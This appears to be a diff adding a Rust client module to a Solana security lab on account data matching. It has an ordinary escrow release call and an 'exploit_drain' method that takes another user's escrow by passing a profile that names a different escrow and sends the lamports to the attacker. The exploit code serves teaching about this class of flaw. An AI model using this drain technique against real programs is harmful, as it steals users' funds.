@@ -0,0 +1,42 @@
+//! account_data_matching: releasing an escrow
+
+use anyhow::Result as AnyResult;
+use lab_domain::EscrowAccount;
+use lab_instructions::account_data_matching::release_ix;
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("account_data_matching");
+
+impl Client {
+    /// `signer`, the owner of `profile`, releases `escrow` to
+    /// `beneficiary`
+    pub async fn release(
+        &self,
+        profile: Pubkey,
+        escrow: Pubkey,
+        beneficiary: Pubkey,
+        signer: &Keypair,
+    ) -> AnyResult<Signature> {
+        let release = release_ix(
+            self.program_id(),
+            profile,
+            escrow,
+            beneficiary,
+            signer.pubkey(),
+        );
+        self.send(&[release], &[signer]).await
+    }
+
+    /// `escrow`, someone else's, released to the payer through `profile`,
+    /// the payer's own, which names a different escrow; returns the
+    /// lamports taken
+    pub async fn exploit_drain(&self, profile: Pubkey, escrow: Pubkey) -> AnyResult<u64> {
+        let stolen = self.account::<EscrowAccount>(escrow).await?.amount;
+        let attacker = self.payer().pubkey();
+        let release = release_ix(self.program_id(), profile, escrow, attacker, attacker);
+        self.send(&[release], &[]).await?;
+        Ok(stolen)
+    }
+}